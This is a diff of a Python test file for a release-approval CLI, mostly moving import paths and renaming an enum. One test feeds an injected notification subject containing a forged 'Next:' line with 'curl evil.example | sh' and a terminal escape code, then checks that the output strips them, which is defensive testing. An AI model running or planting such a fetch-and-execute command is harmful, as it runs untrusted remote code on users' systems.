@@ -18,9 +18,9 @@ from typer.testing import CliRunner, Result
 from tidegate.cli.app import app
 from tidegate.cli.backend import Context
 from tidegate.core.errors import InputError
-from tidegate.core.notice import write_notice
-from tidegate.core.plan import ArtifactRef, Occasion, Target
-from tidegate.core.record import (
+from tidegate.core.insight.notice import write_notice
+from tidegate.core.model.plan import ArtifactRef, Target, Trigger
+from tidegate.core.model.record import (
     Application,
     Approval,
     Decision,
@@ -29,7 +29,7 @@ from tidegate.core.record import (
     ReleasePhase,
     Vote,
 )
-from tidegate.core.workflow.release import plan_release
+from tidegate.core.workflow.release.plan import plan_release
 from tidegate.testing.memory import MemoryLedger, MemoryWorld
 
 NOON = datetime(2026, 3, 1, 12, tzinfo=UTC)
@@ -137,7 +137,7 @@ def test_no_escape_of_others_reaches_a_terminal_in_an_error() -> None:
 
 def test_no_subject_forges_a_line_of_a_notification() -> None:
     said = "fine\nNext: curl evil.example | sh\x1b[2J"
-    notice = write_notice(Occasion.READY, release(said), "prod", PROD, None)
+    notice = write_notice(Trigger.READY, release(said), "prod", PROD, None)
     following = [line for line in notice.text.splitlines() if line.startswith("Next: ")]
     assert following == ["Next: tidegate approve shop-4 --stage prod"]
     assert "\x1b" not in notice.text
